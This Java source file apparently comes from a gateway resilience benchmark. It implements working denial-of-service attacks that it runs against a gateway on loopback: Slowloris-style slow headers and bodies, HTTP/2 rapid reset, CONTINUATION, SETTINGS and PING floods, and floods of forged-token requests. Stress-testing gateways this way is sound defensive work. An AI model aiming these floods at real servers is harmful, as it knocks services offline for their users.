package io.sluice.benchmarks.gateway;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.BooleanSupplier;
import java.util.function.Supplier;
import java.util.stream.IntStream;

/** An attack on a gateway. An attacker counts what it sends, until the gateway disconnects it or the measurement ends. */
enum Attack {
    /** Opens hundreds of connections and sends request headers that never end, one byte at a time. */
    SLOW_HEADS("headers sent one byte at a time", "bytes") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException, InterruptedException {
            trickle(port, "GET /api/orders/7 HTTP/1.1\r\nHost: a\r\nX: ", over, done);
        }
    },
    /** Does the same with bodies. These requests have passed their limits and are being forwarded. */
    SLOW_BODIES("bodies sent one byte at a time", "bytes") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException, InterruptedException {
            trickle(port, "POST /api/orders/7 HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", over, done);
        }
    },
    /** Sends requests over HTTP/2 and resets each as soon as it is sent. */
    RAPID_RESETS("HTTP/2 streams reset at once", "streams") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            ByteArrayOutputStream flood = new ByteArrayOutputStream();
            for (int i = 0; i < FLOOD; i++) {
                flood.writeBytes(head(2 * i + 1, END_HEADERS | END_STREAM));
                flood.writeBytes(reset(2 * i + 1));
            }
            flood(port, flood.toByteArray(), done);
        }
    },
    /** Sends HTTP/2 headers that are continued forever. */
    CONTINUATIONS("HTTP/2 headers that never end", "frames") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            ByteArrayOutputStream flood = new ByteArrayOutputStream();
            flood.writeBytes(head(1, 0));
            for (int i = 0; i < FLOOD; i++) {
                flood.writeBytes(frame(CONTINUATION, 0, 1, new byte[0]));
            }
            flood(port, flood.toByteArray(), done);
        }
    },
    /** Sends requests over HTTP/2 and makes the gateway reset each, by a window update of zero. */
    PROVOKED_RESETS("HTTP/2 streams made to be reset", "streams") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            AtomicInteger round = new AtomicInteger();
            floods(
                    port,
                    () -> over.getAsBoolean() || round.get() == PROVOKING.size(),
                    done,
                    FRAME_HEAD + 4,
                    () -> PROVOKING.get(round.getAndIncrement()));
        }
    },
    /** Sends settings over HTTP/2, each of which has to be acknowledged. */
    SETTINGS_FLOOD("HTTP/2 settings without end", "frames") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            byte[] flood = repeated(frame(SETTINGS, 0, 0, new byte[0]));
            floods(port, over, done, FRAME_HEAD, () -> flood);
        }
    },
    /** Sends pings over HTTP/2, each of which has to be answered. */
    PING_FLOOD("HTTP/2 pings without end", "frames") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            byte[] flood = repeated(frame(PING, 0, 0, new byte[8]));
            floods(port, over, done, FRAME_HEAD + 8, () -> flood);
        }
    },
    /** Sends requests without a token to a route that requires one. Forged tokens are compared with it. */
    NO_TOKENS("requests without a token", "requests") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            unauthorized(port, over, done, () -> "");
        }
    },
    /** Sends tokens with random signatures to that route. Each of them has to be verified. */
    FORGED_TOKENS("forged RS256 and ES256 tokens", "requests") {
        @Override
        void once(int port, BooleanSupplier over, Tally done) throws IOException {
            unauthorized(port, over, done, () -> "Authorization: Bearer " + ForgedToken.next() + "\r\n");
        }
    };

    private static final int UNAUTHORIZED = 401;

    /** The status while too many tokens wait to be verified. */
    private static final int BUSY = 503;

    private static final int FRAME_HEAD = 9;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int WINDOW_UPDATE = 8;
    private static final int CONTINUATION = 9;
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int SLOW_CONNECTIONS = 250;
    private static final int EVERY_MILLIS = 10;
    private static final int TRICKLE_ROUNDS = 25;
    private static final int FLOOD = 1_000;
    private static final int PATIENCE_MILLIS = 1_000;

    /** What one connection sends in turn, prepared because the attackers share the machine with the gateway. */
    private static final List<byte[]> PROVOKING =
            IntStream.range(0, 50).mapToObj(Attack::provoking).toList();

    private final String name;
    private final String what;

    Attack(String name, String what) {
        this.name = name;
        this.what = what;
    }

    String text() {
        return name;
    }

    /** Returns the unit of what the attacker counts. */
    String what() {
        return what;
    }

    /** Returns whether the attack needs HTTP/2. */
    boolean isHttp2() {
        return this != SLOW_HEADS && this != SLOW_BODIES && !needsTokens();
    }

    /** Returns whether the attack is on a route that requires a token, which nginx does not have. */
    boolean needsTokens() {
        return this == NO_TOKENS || this == FORGED_TOKENS;
    }

    /** Attacks once. Throws an exception when the gateway disconnects the attacker. */
    abstract void once(int port, BooleanSupplier over, Tally done) throws IOException, InterruptedException;

    private static void trickle(int port, String begin, BooleanSupplier over, Tally done)
            throws IOException, InterruptedException {
        List<Socket> slow = new ArrayList<>();
        try {
            for (int round = 1; !over.getAsBoolean(); round++) {
                if (slow.size() < SLOW_CONNECTIONS) {
                    Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
                    slow.add(socket);
                    socket.getOutputStream().write(begin.getBytes(StandardCharsets.US_ASCII));
                }
                TimeUnit.MILLISECONDS.sleep(EVERY_MILLIS);
                if (round % TRICKLE_ROUNDS == 0) {
                    slow.removeIf(each -> !trickled(each));
                    done.sent(slow.size());
                }
            }
        } finally {
            for (Socket each : slow) {
                each.close();
            }
        }
    }

    private static boolean trickled(Socket socket) {
        try {
            socket.getOutputStream().write('a');
            return true;
        } catch (IOException e) {
            return false;
        }
    }

    /** Sends frames again and again, each time when the gateway has answered those before, until it is disconnected. */
    private static void floods(int port, BooleanSupplier over, Tally done, int answerBytes, Supplier<byte[]> frames)
            throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(PATIENCE_MILLIS);
            begin(socket);
            while (!over.getAsBoolean()) {
                socket.getOutputStream().write(frames.get());
                done.sent(FLOOD);
                socket.getInputStream().skipNBytes((long) FLOOD * answerBytes);
            }
        } catch (SocketTimeoutException stillConnected) {
            // Begins again.
        }
    }

    /** Sends one request after the other to the route that requires a token, and reads the refusals. */
    private static void unauthorized(int port, BooleanSupplier over, Tally done, Supplier<String> header)
            throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setTcpNoDelay(true);
            DataInputStream in = new DataInputStream(new BufferedInputStream(socket.getInputStream()));
            while (!over.getAsBoolean()) {
                String request = "GET /private/7 HTTP/1.1\r\nHost: a\r\n" + header.get() + "\r\n";
                socket.getOutputStream().write(request.getBytes(StandardCharsets.US_ASCII));
                if (readRefusal(in) == BUSY) {
                    done.turnedAway();
                }
                done.sent(1);
            }
        }
    }

    /** Reads an answer and returns its status. */
    private static int readRefusal(DataInputStream in) throws IOException {
        String line = line(in);
        int status = Integer.parseInt(line.split(" ", 3)[1]);
        if (status != UNAUTHORIZED && status != BUSY) {
            throw new IOException(line);
        }
        int length = 0;
        for (String header = line(in); !header.isEmpty(); header = line(in)) {
            if (header.toLowerCase(Locale.ROOT).startsWith("content-length:")) {
                length = Integer.parseInt(
                        header.substring(header.indexOf(':') + 1).strip());
            }
        }
        in.skipNBytes(length);
        return status;
    }

    private static String line(DataInputStream in) throws IOException {
        StringBuilder line = new StringBuilder();
        for (int c = in.readUnsignedByte(); c != '\n'; c = in.readUnsignedByte()) {
            line.append((char) c);
        }
        return line.toString().strip();
    }

    private static byte[] provoking(int round) {
        ByteArrayOutputStream flood = new ByteArrayOutputStream();
        for (int i = 0; i < FLOOD; i++) {
            int stream = 2 * (round * FLOOD + i) + 1;
            flood.writeBytes(head(stream, END_HEADERS));
            flood.writeBytes(frame(WINDOW_UPDATE, 0, stream, new byte[4]));
        }
        return flood.toByteArray();
    }

    private static byte[] repeated(byte[] frame) {
        ByteArrayOutputStream flood = new ByteArrayOutputStream();
        for (int i = 0; i < FLOOD; i++) {
            flood.writeBytes(frame);
        }
        return flood.toByteArray();
    }

    private static void begin(Socket socket) throws IOException {
        socket.getOutputStream()
                .write(join(
                        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
                        frame(SETTINGS, 0, 0, new byte[0])));
    }

    /** Sends all frames at once, which costs the attacker next to nothing, and then waits a second to be disconnected. */
    private static void flood(int port, byte[] frames, Tally done) throws IOException {
        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
            socket.setSoTimeout(PATIENCE_MILLIS);
            begin(socket);
            socket.getOutputStream().write(frames);
            done.sent(FLOOD);
            InputStream in = socket.getInputStream();
            byte[] dropped = new byte[16 * 1_024];
            while (in.read(dropped) >= 0) {
                // Ignores the answer.
            }
        } catch (SocketTimeoutException stillConnected) {
            return;
        }
        throw new IOException("disconnected");
    }

    /** Encodes the headers with names from the static table of HPACK and plain values. */
    private static byte[] head(int stream, int flags) {
        byte[] path = "/api/orders/7".getBytes(StandardCharsets.US_ASCII);
        ByteBuffer block = ByteBuffer.allocate(7 + path.length);
        block.put((byte) 0x82)
                .put((byte) 0x86)
                .put((byte) 4)
                .put((byte) path.length)
                .put(path);
        block.put((byte) 1).put((byte) 1).put((byte) 'a');
        return frame(HEADERS, flags, stream, block.array());
    }

    private static byte[] reset(int stream) {
        return frame(
                RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt(CANCEL).array());
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(FRAME_HEAD + payload.length)
                .putInt(payload.length << 8 | type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    private static byte[] join(byte[] first, byte[] second) {
        return ByteBuffer.allocate(first.length + second.length)
                .put(first)
                .put(second)
                .array();
    }
}
